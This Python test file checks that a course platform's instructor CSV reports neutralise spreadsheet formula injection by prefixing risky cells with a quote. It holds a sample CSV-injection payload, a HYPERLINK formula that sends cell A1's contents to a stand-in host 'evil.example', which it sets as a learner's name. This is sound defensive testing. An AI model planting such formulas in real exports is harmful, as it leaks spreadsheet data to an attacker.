"""Report CSVs never carry a spreadsheet formula (OWASP CSV injection): a text cell starting with
``= + - @``, a tab or a carriage return gets a leading ``'``."""

from __future__ import annotations

from kampus_instructor.reports.csv_stream import safe_cell, unsafe_cell

from kampus.current import current_kampus
from kampus.identity.models import User

from .conftest import COURSE, answer, enroll_many, learner_client, newest_report, publish_graded_course, read_csv

API = f"/courses/{COURSE}/instructor/api"
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_safe_cell():
    assert safe_cell("=1+2") == "'=1+2"
    for text in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
        assert unsafe_cell(safe_cell(text)) == text
    assert safe_cell("-1") == "-1" and safe_cell(-1) == -1 and safe_cell("plain") == "plain"
    assert unsafe_cell("'quoted") == "'quoted"


def test_learner_name_and_answer_do_not_become_formulas(app, client_as):
    usage = publish_graded_course(app)
    [user] = enroll_many(app, 1)
    with app.app_context(), current_kampus().db.session_scope() as db_session:
        db_session.get(User, user.id).name = EVIL_NAME
    answer(learner_client(app, user), usage["two"], {"input_two_2_1": "=1+2", "input_two_3_1": "4500"})
    staff = client_as("staff")

    assert staff.post(f"{API}/get_students_features/csv").status_code == 200
    rows = read_csv(staff, newest_report(staff)["url"])
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL_NAME in cells and EVIL_NAME not in cells

    assert staff.post(f"{API}/get_problem_responses").status_code == 200
    rows = read_csv(staff, newest_report(staff)["url"])
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+2" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
